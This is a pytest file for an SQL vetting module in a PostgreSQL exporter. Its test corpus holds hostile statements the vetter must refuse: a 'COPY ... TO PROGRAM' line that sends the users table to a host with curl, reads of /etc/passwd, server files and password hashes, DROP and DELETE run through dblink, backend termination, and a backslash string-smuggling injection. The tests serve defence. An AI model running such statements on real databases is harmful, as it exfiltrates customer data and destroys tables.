"""SQL vetting: a corpus of harmful statements is refused at load, each named with its key; every
shipped check and the checks planned next pass; the allowlist matches the portal's schema.

Each refusal is asserted as the exact list of problems, so a statement that slipped through (an
empty list) or was refused for another reason fails its case.
"""

from __future__ import annotations

import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

import pytest
import yaml

from pg_runbook_exporter.config import load_config, parse_config
from pg_runbook_exporter.errors import ConfigError
from pg_runbook_exporter.pgserver.throwaway import free_port
from pg_runbook_exporter.sqlvet import vet
from tests.conftest import REPO

LIST = "not on the allowlist (pg_runbook_exporter/sqlallow.py)"
ONE = "a check is one SELECT or WITH statement"
BACKSLASH = (
    "a '…' string holds a backslash, whose meaning depends on standard_conforming_strings: "
    "write it as E'…' with the backslash doubled"
)


def calls(name: str, why: str = "") -> str:
    return f"calls {name}(){f' ({why})' if why else ''}: {LIST}"


def reads(name: str) -> str:
    return f"reads {name}: {LIST}"


@dataclass(frozen=True)
class Group:
    harm: str  # why every statement of the group must never run as a check
    cases: tuple[tuple[str, str, list[str]], ...]  # (check name, SQL, the problems reported)


TEXT = "runs SQL given as text"
CORPUS = (
    Group(
        "They run SQL given as text, which no vetting of the outer statement sees: through "
        "ts_stat a check took advisory locks, switched read-only off and set statement_timeout "
        "to 0 for every later check.",
        (
            ("ts_stat", "SELECT count(*) AS n FROM ts_stat('SELECT to_tsvector("
             "set_config(''statement_timeout'', ''0'', false))')", [calls("ts_stat", TEXT)]),
            ("ts_stat_weights", "SELECT count(*) AS n FROM ts_stat('SELECT v FROM t', 'ab')",
             [calls("ts_stat", TEXT)]),
            ("ts_rewrite", "SELECT ts_rewrite(q, 'SELECT pg_advisory_lock(1)')::text AS n "
             "FROM (VALUES (NULL)) AS v(q)", [calls("ts_rewrite", TEXT)]),
            ("query_to_xml", "SELECT query_to_xml('SELECT pg_notify(''c'', ''x'')', true, "
             "false, '')::text AS n", [calls("query_to_xml", TEXT)]),
            ("query_to_xml_and_xmlschema", "SELECT query_to_xml_and_xmlschema('SELECT 1', "
             "true, false, '')::text AS n", [calls("query_to_xml_and_xmlschema", TEXT)]),
            ("cursor_to_xml", "SELECT cursor_to_xml('c', 1, true, false, '')::text AS n",
             [calls("cursor_to_xml", "reads a cursor")]),
            ("table_to_xml", "SELECT table_to_xml('users', true, false, '')::text AS n",
             [calls("table_to_xml", "reads a relation named at run time")]),
            ("schema_to_xml", "SELECT schema_to_xml('public', true, false, '')::text AS n",
             [calls("schema_to_xml", "reads relations named at run time")]),
            ("xpath_over_query_to_xml", "SELECT cardinality(xpath('/row', query_to_xml("
             "'SELECT pg_advisory_lock(1)', true, false, ''))) AS n",
             [calls("xpath"), calls("query_to_xml", TEXT)]),
            ("dblink", "SELECT n FROM dblink('dbname=portal', 'DELETE FROM users') AS t(n int)",
             [calls("dblink", "opens connections and runs SQL given as text"),
              "uses a column definition list, which a check may not"]),
            ("dblink_exec", "SELECT dblink_exec('dbname=portal', 'DROP TABLE users') AS n",
             [calls("dblink_exec", "opens connections and runs SQL given as text")]),
        ),
    ),
    Group(
        "They change the session for every later check, and a read-only transaction lets them.",
        (
            ("unbounded", "SELECT set_config('statement_timeout', '0', false) AS n",
             [calls("set_config", "changes a setting of the session")]),
            ("read_write", "SELECT pg_catalog.set_config('default_transaction_read_only', "
             "'off', false) AS n", [calls("pg_catalog.set_config",
                                          "changes a setting of the session")]),
            ("search_path", "SELECT set_config('search_path', 'portal', false) AS n",
             [calls("set_config", "changes a setting of the session")]),
            ("advisory_lock", "SELECT pg_advisory_lock(42)::text AS n",
             [calls("pg_advisory_lock", "takes advisory locks")]),
            ("advisory_lock_shared", "SELECT pg_advisory_lock_shared(1, 2)::text AS n",
             [calls("pg_advisory_lock_shared", "takes advisory locks")]),
            ("try_advisory_lock", "SELECT pg_try_advisory_lock(42) AS n",
             [calls("pg_try_advisory_lock", "takes advisory locks")]),
            ("advisory_xact_lock", "SELECT pg_advisory_xact_lock(42)::text AS n",
             [calls("pg_advisory_xact_lock", "takes advisory locks")]),
            ("advisory_unlock_all", "SELECT pg_advisory_unlock_all()::text AS n",
             [calls("pg_advisory_unlock_all", "takes advisory locks")]),
            ("notify", "SELECT pg_notify('portal_events', 'forged')::text AS n",
             [calls("pg_notify", "sends a notification")]),
        ),
    ),
    Group(
        "They write although the transaction is read-only: transaction IDs (WAL, wraparound) "
        "and, before PostgreSQL 16, large objects (pg_largeobject grew 24 kB to 2.4 MB).",
        (
            ("txid_current", "SELECT txid_current() AS n",
             [calls("txid_current", "assigns a transaction ID")]),
            ("current_xact_id", "SELECT pg_current_xact_id()::text AS n",
             [calls("pg_current_xact_id", "assigns a transaction ID")]),
            ("lo_from_bytea", "SELECT lo_from_bytea(0, '\\x00'::bytea) AS n",
             [calls("lo_from_bytea", "reads or writes large objects"), BACKSLASH]),
            ("lo_from_bytea_escaped", "SELECT lo_from_bytea(0, E'\\\\x00'::bytea) AS n",
             [calls("lo_from_bytea", "reads or writes large objects")]),
            ("lo_create", "SELECT lo_create(0) AS n",
             [calls("lo_create", "reads or writes large objects")]),
            ("lo_import", "SELECT lo_import('/etc/passwd') AS n",
             [calls("lo_import", "reads or writes large objects")]),
            ("lo_put", "SELECT lo_put(16385, 0, 'x')::text AS n",
             [calls("lo_put", "reads or writes large objects")]),
            ("nextval", "SELECT nextval('ticket_seq') AS n",
             [calls("nextval", "advances a sequence")]),
            ("setval", "SELECT setval('ticket_seq', 1) AS n",
             [calls("setval", "changes a sequence")]),
        ),
    ),
    Group(
        "They signal other sessions or the server, or hold the session past any use.",
        (
            ("terminate", "SELECT count(pg_terminate_backend(pid)) AS n FROM pg_stat_activity",
             [calls("pg_terminate_backend", "signals another session")]),
            ("cancel", "SELECT count(pg_cancel_backend(pid)) AS n FROM pg_stat_activity",
             [calls("pg_cancel_backend", "signals another session")]),
            ("reload", "SELECT pg_reload_conf() AS n", [calls("pg_reload_conf",
                                                              "signals the server")]),
            ("rotate", "SELECT pg_rotate_logfile() AS n", [calls("pg_rotate_logfile")]),
            ("sleep", "SELECT pg_sleep(3600)::text AS n",
             [calls("pg_sleep", "holds the session")]),
            ("sleep_for", "SELECT pg_sleep_for('1 hour')::text AS n",
             [calls("pg_sleep_for", "holds the session")]),
            ("switch_wal", "SELECT pg_switch_wal()::text AS n", [calls("pg_switch_wal")]),
        ),
    ),
    Group(
        "They read server files or customer data, or reset what the alerts are computed from.",
        (
            ("read_file", "SELECT pg_read_file('postgresql.auto.conf') AS n",
             [calls("pg_read_file", "reads server files")]),
            ("read_binary_file", "SELECT length(pg_read_binary_file('global/pg_control')) AS n",
             [calls("pg_read_binary_file", "reads server files")]),
            ("ls_dir", "SELECT count(*) AS n FROM pg_ls_dir('.')", [calls("pg_ls_dir")]),
            ("stat_reset", "SELECT pg_stat_reset()::text AS n",
             [calls("pg_stat_reset", "resets statistics")]),
            ("stat_reset_shared", "SELECT pg_stat_reset_shared('archiver')::text AS n",
             [calls("pg_stat_reset_shared", "resets statistics")]),
            ("statements_reset", "SELECT pg_stat_statements_reset()::text AS n",
             [calls("pg_stat_statements_reset", "resets statistics")]),
            ("pg_stats", "SELECT count(*) AS n FROM pg_stats WHERE tablename = 'users'",
             [reads("pg_stats")]),  # most_common_vals: customers' e-mail addresses
            ("pg_authid", "SELECT count(rolpassword) AS n FROM pg_catalog.pg_authid",
             [reads("pg_catalog.pg_authid")]),
        ),
    ),
    Group(
        "They are not one reading SELECT: they write, lock, run code, or hide a second statement.",
        (
            ("copy", "COPY users TO PROGRAM 'curl -d @- example.com'",
             [f"is a COPY statement; {ONE}"]),
            ("do", "DO $$BEGIN PERFORM pg_advisory_lock(1); END$$", [f"is a DO statement; {ONE}"]),
            ("call", "CALL portal_cleanup()", [f"is a CALL statement; {ONE}"]),
            ("set", "SET statement_timeout = 0", [f"is a SET statement; {ONE}"]),
            ("reset_all", "RESET ALL", [f"is a SET statement; {ONE}"]),
            ("listen", "LISTEN portal_events", [f"is a LISTEN statement; {ONE}"]),
            ("explain_analyze", "EXPLAIN ANALYZE DELETE FROM users",
             [f"is a EXPLAIN statement; {ONE}"]),
            ("two_statements", "SELECT 1 AS n; SELECT pg_advisory_lock(1)",
             [f"holds 2 statements; {ONE}"]),
            ("select_into", "SELECT id INTO stolen FROM users",
             ["SELECT INTO creates a table; checks may only read"]),
            ("for_update", "SELECT count(*) AS n FROM (SELECT id FROM users FOR UPDATE) AS u",
             ["FOR UPDATE/SHARE locks rows; checks may only read"]),
            ("for_share", "SELECT id FROM id_mappings FOR KEY SHARE",
             ["FOR UPDATE/SHARE locks rows; checks may only read"]),
            ("cte_delete", "WITH d AS (DELETE FROM users RETURNING 1) SELECT count(*) AS n FROM d",
             ["writes (DELETE inside the statement); checks may only read"]),
            ("cte_update", "WITH u AS (UPDATE id_mappings SET sf_account_id = NULL RETURNING 1) "
             "SELECT count(*) AS n FROM u",
             ["writes (UPDATE inside the statement); checks may only read"]),
            ("cte_insert", "WITH i AS (INSERT INTO users (id) VALUES ('x') RETURNING 1) "
             "SELECT count(*) AS n FROM i",
             ["writes (INSERT inside the statement); checks may only read"]),
        ),
    ),
    Group(
        "Their names resolve outside pg_catalog, where a view, function, operator or type "
        "someone else owns can hide any of the above.",
        (
            ("qualified_function", "SELECT public.pg_backend_pid() AS n",
             ["calls public.pg_backend_pid(): a function may be qualified with pg_catalog only"]),
            ("quoted_function", 'SELECT "Now"() AS n', [calls("Now")]),
            ("unknown_function", "SELECT portal_stats() AS n", [calls("portal_stats")]),
            ("unknown_view", "SELECT count(*) AS n FROM portal_activity",
             [reads("portal_activity")]),
            ("qualified_view", "SELECT count(*) AS n FROM public.pg_stat_activity",
             ["reads public.pg_stat_activity: a relation may be qualified with pg_catalog only"]),
            ("qualified_portal_table", "SELECT count(*) AS n FROM portal.users",
             ["reads portal.users: name a portal table unqualified (it resolves in the schema "
              "of DATABASE_URL)"]),
            ("information_schema", "SELECT count(*) AS n FROM information_schema.tables",
             ["reads information_schema.tables: a relation may be qualified with pg_catalog only"]),
            ("later_cte", "WITH a AS (SELECT * FROM b), b AS (SELECT 1 AS n) SELECT n FROM a",
             [reads("b")]),  # without RECURSIVE, b inside a is a relation, not the WITH query
            ("cte_out_of_scope", "SELECT n FROM (WITH x AS (SELECT 1 AS n) SELECT n FROM x) AS s, "
             "x", [reads("x")]),
            ("qualified_operator", "SELECT 1 OPERATOR(public.=) 1 AS n",
             ["uses OPERATOR(public.=): an operator may be qualified with pg_catalog only"]),
            ("unknown_operator", "SELECT count(*) AS n FROM users WHERE id <-> 'x'",
             [f"uses operator <->: {LIST}"]),
            ("sort_operator", "SELECT id FROM users ORDER BY id USING ~<~",
             [f"uses operator ~<~: {LIST}"]),
            ("sublink_operator", "SELECT 1 AS n WHERE 1 OPERATOR(portal.===) ANY (SELECT 1)",
             ["uses OPERATOR(portal.===): an operator may be qualified with pg_catalog only"]),
            ("domain_cast", "SELECT 'x'::portal_email AS n", [f"casts to portal_email: {LIST}"]),
        ),
    ),
    Group(
        "They depend on standard_conforming_strings: with it off (a role default), text read "
        "here as a string ends early and the rest runs as SQL.",
        (
            ("backslash_smuggle", "SELECT 'x\\', ' , pg_advisory_lock(1) --' AS n", [BACKSLASH]),
            ("backslash_continued", "SELECT 'x'\n'\\' AS n", [BACKSLASH]),
            ("scs_off", "SELECT set_config('standard_conforming_strings', 'off', false) AS n",
             [calls("set_config", "changes a setting of the session")]),
            ("set_scs_off", "SET standard_conforming_strings = off",
             [f"is a SET statement; {ONE}"]),
        ),
    ),
    Group(
        "Their syntax calls code the allowlist does not name.",
        (
            ("xmltable", "SELECT n FROM xmltable('/a' PASSING '<a/>' COLUMNS n int)",
             ["uses XMLTABLE, which a check may not"]),
            ("tablesample", "SELECT count(*) AS n FROM users TABLESAMPLE portal_sampler(1)",
             ["uses TABLESAMPLE, which a check may not"]),
            ("xmlparse", "SELECT xmlparse(document '<a/>')::text AS n",
             ["uses an XML function, which a check may not"]),
        ),
    ),
)  # fmt: skip
CASES = [case for group in CORPUS for case in group.cases]


def test_the_corpus_is_large_and_every_name_unique() -> None:
    names = [name for name, _, _ in CASES]
    assert len(names) >= 50
    assert len(set(names)) == len(names)


@pytest.mark.parametrize(
    ("sql", "problems"), [(s, p) for _, s, p in CASES], ids=[n for n, _, _ in CASES]
)
def test_a_harmful_statement_is_refused_with_its_reasons(sql: str, problems: list[str]) -> None:
    assert vet(sql) == problems


def test_the_config_refuses_every_harmful_check_naming_file_check_and_key() -> None:
    checks: dict[str, dict[str, object]] = {
        name: {
            "help": "Harmful.",
            "sql": sql,
            "metrics": {"n": {"name": name, "type": "gauge", "help": "N."}},
        }
        for name, sql, _ in CASES
    }
    checks["versions"] = {
        "help": "Harmful on one version only.",
        "sql": [{"max_version": 16, "sql": "SELECT 1 AS n"},
                {"min_version": 17, "sql": "SELECT n FROM ts_stat('SELECT 1') AS t(n)"}],
        "metrics": {"n": {"name": "versions", "type": "gauge", "help": "N."}},
    }  # fmt: skip
    with pytest.raises(ConfigError) as caught:
        parse_config(
            yaml.safe_dump({"checks": checks}, sort_keys=False), source="/etc/pgrb/queries.yaml"
        )
    assert caught.value.problems == [
        f"/etc/pgrb/queries.yaml: checks.{name}.sql: {problem}"
        for name, _, problems in CASES
        for problem in problems
    ] + [f"/etc/pgrb/queries.yaml: checks.versions.sql[1].sql: {calls('ts_stat', TEXT)}"]


def test_run_refuses_to_start_with_a_harmful_check_and_exits_2(tmp_path: Path) -> None:
    config = tmp_path / "queries.yaml"
    name, sql, (problem,) = CASES[0]
    config.write_text(yaml.safe_dump({"checks": {name: {
        "help": "Harmful.", "sql": sql, "metrics": {"n": {"name": "n", "type": "gauge",
                                                            "help": "N."}}}}}))  # fmt: skip
    result = subprocess.run(
        [sys.executable, "-m", "pg_runbook_exporter", "run", "--config", str(config),
         "--database.url", "postgresql://nobody@127.0.0.1:1/none",
         "--web.listen-address", f"127.0.0.1:{free_port()}"],
        capture_output=True, text=True, timeout=60, check=False, cwd=REPO,
    )  # fmt: skip
    assert result.returncode == 2
    assert result.stderr == f"error: {config}: checks.{name}.sql: {problem}\n"


def test_every_shipped_check_passes_vetting() -> None:
    variants = [(c.name, v.sql) for c in load_config().checks for v in c.variants]
    assert len(variants) > 20
    assert {name: vet(sql) for name, sql in variants if vet(sql)} == {}


# What the checks planned next read: each must pass (the allowlist is not just the shipped SQL).
PLANNED = [
    "SELECT p.phase, count(*) AS n FROM pg_stat_progress_vacuum p GROUP BY 1",
    "SELECT (SELECT count(*) FROM pg_stat_progress_cluster) + (SELECT count(*) "
    "FROM pg_stat_progress_create_index) AS n",
    "SELECT coalesce(sum(size), 0)::bigint AS n FROM pg_ls_tmpdir()",
    "SELECT count(*) AS n, max(modification) AS m FROM pg_catalog.pg_ls_logdir()",
    "SELECT count(*) AS n FROM pg_ls_waldir() "
    "UNION ALL SELECT count(*) FROM pg_ls_archive_statusdir()",
    "SELECT setting::float8 AS n FROM pg_settings WHERE name = ANY(%(names)s)",
    "SELECT sequencename::text, last_value::float8 / nullif(max_value, 0) AS n FROM pg_sequences",
    "SELECT count(*) AS n FROM pg_index WHERE NOT indisvalid",
    "SELECT count(*) AS n, extract(epoch FROM min(prepared))::float8 AS t FROM pg_prepared_xacts",
    "SELECT slot_name::text, pg_wal_lsn_diff(pg_current_wal_lsn(), restart_lsn) AS n "
    "FROM pg_replication_slots",
    "SELECT application_name, extract(epoch FROM replay_lag)::float8 AS n FROM pg_stat_replication",
    "SELECT count(*) FILTER (WHERE cardinality(pg_blocking_pids(pid)) > 0) AS n "
    "FROM pg_stat_activity",
    "SELECT s.queryid::text, s.calls AS n FROM pg_stat_statements(false) AS s "
    "JOIN pg_database d ON d.oid = s.dbid",
    "SELECT format('%%I.%%I', n.nspname, c.relname) AS r, a.attname::text, t.typname::text "
    "FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
    "JOIN pg_attribute a ON a.attrelid = c.oid JOIN pg_type t ON t.oid = a.atttypid",
    "SELECT quote_ident(d.refobjid::regclass::text) AS r FROM pg_depend d WHERE d.deptype = 'e'",
    "SELECT mode, count(*) AS n FROM pg_locks WHERE NOT granted GROUP BY mode",
    "SELECT age(datfrozenxid) AS x, mxid_age(datminmxid) AS m FROM pg_database",
    "SELECT extract(epoch FROM clock_timestamp() - now())::float8 AS n",
    "SELECT greatest(1, 2) AS a, least(3, 4) AS b, coalesce(NULL, 5) AS c",
    "SELECT left(application_name, 64) AS a, substr(usename::text, 1, 32) AS u, "
    "length(datname) AS n FROM pg_stat_activity",
    "SELECT count(*) AS n FROM pg_stat_activity WHERE query LIKE 'autovacuum:%%'",
    "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r WHERE n < 3) SELECT n FROM r",
    "WITH pg_class AS (SELECT 1 AS n) SELECT n FROM pg_class",  # a WITH name is not a relation
    "SELECT E'a\\\\b' AS a, $$c\\d$$ AS b, 'no backslash' AS c, interval '5 minutes' AS d",
    "SELECT x FROM (VALUES (1), (2)) AS v(x) WHERE x BETWEEN 1 AND 2 ORDER BY x USING <",
    "VALUES (1)",
    "SELECT 1 AS n;",
    "SELECT count(*) AS n FROM users WHERE id = ANY(%(names)s) AND id LIKE 'x%%'",
]


@pytest.mark.parametrize("sql", PLANNED)
def test_a_reading_statement_passes(sql: str) -> None:
    assert vet(sql) == []


def test_a_statement_that_does_not_parse_is_refused_with_its_line() -> None:
    assert vet("SELECT n\nFORM t") == [
        'does not parse: syntax error at or near "t" (line 2 of the SQL)'
    ]
    assert vet("SELECT 'é' AS a,\n'ü' AS b\nFORM t") == [  # the position counts characters
        'does not parse: syntax error at or near "FORM" (line 3 of the SQL)'
    ]
    # The parser is PostgreSQL 17's and assumes UTF-8 (a documented limit).
    assert vet("SELECT E'\\xe9' AS n") == [
        'does not parse: invalid byte sequence for encoding "UTF8": 0xe9'
    ]
    # A tree location counts bytes: the string after the two-byte é is still found.
    assert vet("SELECT 'é', 'x\\'") == [BACKSLASH]
